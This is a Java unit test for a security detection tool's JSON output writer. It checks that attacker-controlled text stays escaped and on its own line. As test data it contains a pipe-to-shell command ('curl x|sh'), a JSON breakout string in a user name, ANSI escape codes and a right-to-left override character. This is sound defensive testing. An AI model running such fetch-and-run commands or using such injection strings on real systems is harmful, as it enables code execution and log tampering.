package dev.cadet.flink.internal;

import dev.cadet.model.CloudEvent;
import dev.cadet.model.Finding;
import dev.cadet.model.Origin;
import dev.cadet.model.Severity;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static dev.cadet.detectors.testkit.E.DAY;
import static dev.cadet.detectors.testkit.E.user;
import static org.assertj.core.api.Assertions.assertThat;

class JsonOutputTest {

    @Test
    void attackerTextStaysInsideItsStringAndOnItsLine(@TempDir Path dir) throws IOException {
        CloudEvent e = dev.cadet.detectors.testkit.E.command(user("dave\"},{\"x\":\"\n")).at(DAY).build();
        String hostile = "curl x|sh\n\u001b[2J\u202eevil\"}";
        Finding f = new Finding("F-0001", "suspicious-command-content", Severity.HIGH, DAY, DAY, e.provider(),
                e.principal(), null, null, e.action(), List.of(), hostile, List.of(e));
        JsonOutput.write(dir.toString(), List.of(f), List.of(),
                Map.of("AWS/x", new Origin("a\u0007.json", 3, 0, 0)));

        String findings = Files.readString(dir.resolve("findings.jsonl"), StandardCharsets.UTF_8);
        assertThat(findings.lines()).hasSize(1);
        assertThat(findings).doesNotContain("\u001b", "\u202e").contains("\\u001B[2J\\u202Eevil\\\"}");
        String summary = Files.readString(dir.resolve("summary.json"), StandardCharsets.UTF_8);
        assertThat(summary).contains("\"lateEvents\":1").contains("a\\u0007.json").doesNotContain("\u0007");
        assertThat(dir.resolve(".findings.jsonl.tmp")).doesNotExist();
    }
}
